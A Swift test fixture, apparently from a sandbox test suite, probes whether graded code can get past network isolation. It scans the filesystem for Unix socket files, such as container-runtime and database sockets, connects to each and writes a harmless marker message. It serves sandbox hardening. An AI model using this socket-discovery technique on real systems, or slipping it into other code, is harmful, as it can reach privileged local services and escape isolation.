// Attack: --unshare-net cuts the network but not Unix sockets bound to paths, and a read-only
// view of the whole machine shows every such socket file (a container runtime's, a database's).
// Connect to the ones the test listens on (HOSTILE_SOCKET_PATHS) and to every socket file it
// can find, and say hello.
#if canImport(Glibc)
import Glibc
#endif
import NavigationSimulator

enum Attack {
    static let targets: [String] = HOSTILE_SOCKET_PATHS

    @MainActor static func adapterCreated(_ navigationController: UINavigationController) {
        var sockets = targets
        var budget = 5_000
        find("/", into: &sockets, budget: &budget)
        for path in sockets { hello(path) }
    }

    @MainActor static func rendering(_ stack: [ScreenEntry], on navigationController: UINavigationController) {}

    static func find(_ path: String, into sockets: inout [String], budget: inout Int) {
        guard budget > 0, !["/proc", "/sys"].contains(path) else { return }
        budget -= 1
        var info = stat()
        guard lstat(path, &info) == 0 else { return }
        switch info.st_mode & S_IFMT {
        case S_IFSOCK:
            sockets.append(path)
        case S_IFDIR:
            guard let folder = opendir(path) else { return }
            defer { closedir(folder) }
            while let entry = readdir(folder) {
                let name = withUnsafeBytes(of: entry.pointee.d_name) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) }
                guard name != ".", name != ".." else { continue }
                find(path == "/" ? "/" + name : path + "/" + name, into: &sockets, budget: &budget)
            }
        default:
            break
        }
    }

    static func hello(_ path: String) {
        let descriptor = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
        guard descriptor >= 0 else { return }
        defer { close(descriptor) }
        var address = sockaddr_un()
        address.sun_family = sa_family_t(AF_UNIX)
        let bytes = Array(path.utf8.prefix(100))
        withUnsafeMutableBytes(of: &address.sun_path) { raw in
            for (index, byte) in bytes.enumerated() { raw[index] = byte }
        }
        let connected = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(descriptor, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) }
        }
        guard connected == 0 else { return }
        var message = Array("HOSTILE-HELLO from a graded test\n".utf8)
        _ = write(descriptor, &message, message.count)
    }
}
